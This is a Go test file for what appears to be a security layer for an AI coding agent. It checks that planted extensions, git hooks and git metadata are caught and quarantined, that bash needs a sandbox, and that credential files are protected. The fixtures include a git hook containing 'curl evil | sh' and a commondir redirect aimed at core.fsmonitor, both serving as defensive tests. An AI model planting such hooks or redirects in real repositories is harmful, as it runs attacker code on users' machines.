package engine

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/piagent/piagent/internal/baseline"
	"github.com/piagent/piagent/internal/guard"
	"github.com/piagent/piagent/internal/policy"
	"github.com/piagent/piagent/internal/registry"
	"github.com/piagent/piagent/internal/sandbox"
)

func readCall() guard.Call {
	return guard.Call{ToolName: "read", Input: map[string]any{"path": "src/main.go"}}
}

// A file planted in the project's Pi folder during a session (a folder the
// sandbox could not make read-only because it did not exist) blocks every
// further call; the adapter's and the person's own MCP edits do not.
func TestIntegrityBlocksPlantedExtension(t *testing.T) {
	t.Parallel()
	home, proj := registryWorld(t)
	os.RemoveAll(filepath.Join(proj, ".pi"))
	s := &Engine{Home: home, Cwd: proj}
	if d := s.Check(readCall()); !d.Allowed() {
		t.Fatalf("first call: %+v", d)
	}
	// a positive control: the person's /piagent-mcp disable writes .pi/mcp.json
	os.MkdirAll(filepath.Join(proj, ".pi"), 0o755)
	if d := s.Check(readCall()); d.Allowed() {
		t.Fatalf("a new .pi folder went unnoticed")
	}
	// and it was put back: the folder is in the quarantine, not the project
	if _, err := os.Lstat(filepath.Join(proj, ".pi")); !os.IsNotExist(err) {
		t.Fatalf("the new .pi folder stayed: %v", err)
	}
	if qs, _ := baseline.List(home); len(qs) != 1 || len(qs[0].Changes) != 1 || qs[0].Changes[0].Path != ".pi" || !qs[0].Changes[0].Kept {
		t.Fatalf("quarantine: %+v", qs)
	}

	os.MkdirAll(filepath.Join(proj, ".pi"), 0o755)
	s = &Engine{Home: home, Cwd: proj}
	if d := s.Check(readCall()); !d.Allowed() {
		t.Fatalf("fresh session: %+v", d)
	}
	os.WriteFile(filepath.Join(proj, ".pi", "mcp.json"), []byte(`{"mcpServers":{}}`), 0o644)
	os.MkdirAll(filepath.Join(proj, ".pi", "mcp-traces"), 0o755)
	if d := s.Check(readCall()); !d.Allowed() {
		t.Fatalf("an MCP file edit blocked the session: %+v", d)
	}
	os.MkdirAll(filepath.Join(proj, ".pi", "extensions"), 0o755)
	os.WriteFile(filepath.Join(proj, ".pi", "extensions", "x.ts"), []byte("export default () => {}"), 0o644)
	d := s.Check(readCall())
	if d.Allowed() || d.Code != CodeIntegrity || !strings.Contains(d.Reason, ".pi") {
		t.Fatalf("planted extension: %+v", d)
	}
	// a git hook likewise
	s = &Engine{Home: home, Cwd: proj}
	s.Check(readCall())
	os.WriteFile(filepath.Join(proj, ".git", "hooks", "pre-commit"), []byte("#!/bin/sh\n"), 0o755)
	if d := s.Check(readCall()); d.Code != CodeIntegrity {
		t.Fatalf("planted hook: %+v", d)
	}
	// what git reads that did not exist when the session started, which
	// no mount can keep (issue 38): a commondir pointing at a copy whose
	// config sets core.fsmonitor, a linked work tree, info/
	for _, plant := range []func(git string){
		func(git string) { os.WriteFile(filepath.Join(git, "commondir"), []byte("../evil-git\n"), 0o644) },
		func(git string) { os.MkdirAll(filepath.Join(git, "worktrees", "w"), 0o755) },
		func(git string) { os.MkdirAll(filepath.Join(git, "info"), 0o755) },
	} {
		git := filepath.Join(proj, ".git")
		for _, f := range []string{"commondir", "worktrees", "info"} {
			os.RemoveAll(filepath.Join(git, f))
		}
		s = &Engine{Home: home, Cwd: proj}
		if d := s.Check(readCall()); d.Code == CodeIntegrity {
			t.Fatalf("fresh session: %+v", d)
		}
		plant(git)
		if d := s.Check(readCall()); d.Code != CodeIntegrity {
			t.Errorf("planted in .git: %+v", d)
		}
	}
}

// sandbox "required" in the user's policy blocks bash where no sandbox
// applies, and only bash; "auto" lets it run and the notice says so.
func TestSandboxRequired(t *testing.T) {
	t.Parallel()
	home, proj := registryWorld(t)
	bash := guard.Call{ToolName: "bash", Input: map[string]any{"command": "go test ./..."}}
	none := &sandbox.Status{Missing: "the kernel has no Landlock"}

	s := &Engine{Home: home, Cwd: proj, probe: none}
	if d := s.Check(bash); !d.Allowed() {
		t.Fatalf("auto: %+v", d)
	}
	if n := sandboxNotice(*none); len(n) != 1 || !strings.Contains(n[0], "no sandbox") {
		t.Errorf("notice: %v", n)
	}

	if err := os.WriteFile(registry.UserPolicy(home), []byte(`{"version": 1, "sandbox": "required"}`), 0o600); err != nil {
		t.Fatal(err)
	}
	s = &Engine{Home: home, Cwd: proj, probe: none}
	d := s.Check(bash)
	if d.Allowed() || d.Code != CodeNoSandbox || !strings.Contains(d.Reason, "Landlock") {
		t.Fatalf("required without a sandbox: %+v", d)
	}
	if d := s.Check(readCall()); !d.Allowed() {
		t.Fatalf("required blocks read too: %+v", d)
	}
	s = &Engine{Home: home, Cwd: proj, probe: &sandbox.Status{Mechanism: "landlock", ABI: 7}}
	if d := s.Check(bash); !d.Allowed() {
		t.Fatalf("required with a sandbox: %+v", d)
	}
}

func TestPowershellBlocked(t *testing.T) {
	t.Parallel()
	home, proj := registryWorld(t)
	s := &Engine{Home: home, Cwd: proj}
	if d := s.Check(guard.Call{ToolName: "powershell", Input: map[string]any{"command": "Get-ChildItem"}}); d.Allowed() || d.Code != CodeNoSandbox {
		t.Fatalf("powershell: %+v", d)
	}
}

// The registry's secrets are protected paths wherever the agent dir is:
// Pi's auth.json under a moved agent dir, the adapter's token folder.
func TestRegistrySecretsProtected(t *testing.T) {
	t.Parallel()
	home, proj := registryWorld(t)
	agent := filepath.Join(home, "elsewhere", "agent")
	s := &Engine{Home: home, Cwd: proj, Getenv: func(k string) string {
		if k == "PI_CODING_AGENT_DIR" {
			return agent
		}
		return ""
	}}
	for _, p := range []string{filepath.Join(agent, "auth.json"), filepath.Join(agent, "mcp-oauth", "x", "tokens.json")} {
		d := s.Check(guard.Call{ToolName: "read", Input: map[string]any{"path": p}})
		if d.Allowed() {
			t.Errorf("read %s: allowed", p)
		}
	}
	if d := s.Check(guard.Call{ToolName: "read", Input: map[string]any{"path": filepath.Join(agent, "models.json")}}); !d.Allowed() {
		t.Errorf("read models.json (not a secret): %+v", d)
	}
}

// The mode answer says where the mode comes from, so /piagent-mode does not
// call the policy's default "chosen for this project" (issue 23).
func TestModeSource(t *testing.T) {
	t.Parallel()
	home, proj := registryWorld(t)
	s := &Engine{Home: home, Cwd: proj}
	src := func() string {
		v, err := s.Mode("")
		if err != nil {
			t.Fatal(err)
		}
		return v.Source
	}
	if got := src(); got != "default" {
		t.Errorf("nobody chose: %s", got)
	}
	g, _ := s.gate()
	if err := policy.SetProjectMode(home, g.Project, "readOnly"); err != nil {
		t.Fatal(err)
	}
	s = &Engine{Home: home, Cwd: proj}
	if got := src(); got != "project" {
		t.Errorf("the person chose: %s", got)
	}
	if _, err := s.Mode("ship"); err != nil {
		t.Fatal(err)
	}
	if got := src(); got != "session" {
		t.Errorf("this session chose: %s", got)
	}
}

// Issue 38, item 3: the launcher's baseline is taken before Pi and any
// server start, so a hook an approved server plants at its start (before
// the session's first tool call) is seen at that first call, put back and
// kept in a quarantine. The control is a plain pi: its baseline is the
// first request's, which already holds the hook.
func TestIntegrityLauncherBaseline(t *testing.T) {
	t.Parallel()
	home, proj := registryWorld(t)
	hook := filepath.Join(proj, ".git", "hooks", "post-checkout")
	plant := func() {
		if err := os.WriteFile(hook, []byte("#!/bin/sh\ncurl evil | sh\n"), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	s, err := baseline.Take(proj, baseline.Roots(proj, ".pi"))
	if err != nil {
		t.Fatal(err)
	}
	file, err := baseline.Save(home, s)
	if err != nil {
		t.Fatal(err)
	}
	plant() // the server's start
	en := &Engine{Home: home, Cwd: proj, Getenv: func(k string) string {
		if k == baseline.EnvBaseline {
			return file
		}
		return ""
	}}
	d := en.Check(readCall())
	if d.Allowed() || d.Code != CodeIntegrity || !strings.Contains(d.Reason, "at the launcher's start") || !strings.Contains(d.Reason, "piagent quarantine show") {
		t.Fatalf("first call after a start-up hook: %+v", d)
	}
	if _, err := os.Lstat(hook); !os.IsNotExist(err) {
		t.Fatalf("the hook stayed: %v", err)
	}
	if d := en.Check(readCall()); d.Code != CodeIntegrity {
		t.Fatalf("the session did not stay blocked after the restore: %+v", d)
	}
	qs, _ := baseline.Pending(home, proj)
	if len(qs) != 1 || qs[0].Changes[0].Path != ".git/hooks/post-checkout" || qs[0].Source != baseline.DuringSession {
		t.Fatalf("quarantine: %+v", qs)
	}

	// the control: under a plain pi the hook is part of the baseline
	plant()
	en = &Engine{Home: home, Cwd: proj}
	if d := en.Check(readCall()); !d.Allowed() {
		t.Fatalf("plain pi: %+v", d)
	}
	// a baseline file outside piagent's folder is not trusted: the first
	// request's state is used, and said
	os.Remove(hook)
	en = &Engine{Home: home, Cwd: proj, Getenv: func(k string) string {
		if k == baseline.EnvBaseline {
			return filepath.Join(proj, "forged.json")
		}
		return ""
	}}
	en.Check(readCall())
	plant()
	if d := en.Check(readCall()); d.Code != CodeIntegrity || !strings.Contains(d.Reason, "could not be read") {
		t.Fatalf("forged baseline: %+v", d)
	}
}
